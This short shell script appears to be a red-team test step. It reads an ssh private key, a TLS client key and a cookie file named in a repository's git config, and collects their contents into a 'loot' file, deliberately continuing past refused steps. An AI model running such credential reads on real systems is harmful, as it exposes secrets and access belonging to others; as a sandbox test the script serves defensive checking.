# Reads the files the repository's git config names that are
# credentials themselves: the ssh key of core.sshCommand (-i), and a TLS
# client key and cookie file of http.*. $RED_TEAM is the folder (outside
# /tmp and the homes) holding them.
set +e # an attacker keeps going when a step is refused
mkdir -p a
{
  echo "folder: $RED_TEAM"
  git config --get core.sshCommand
  for f in "$RED_TEAM/id_checkout" "$RED_TEAM/client.key" "$RED_TEAM/cookies.txt"; do
    echo "== $f"
    cat "$f"
  done
  echo "read"
} > a/loot.txt 2>&1
echo "T1 was here" > a/t1.txt
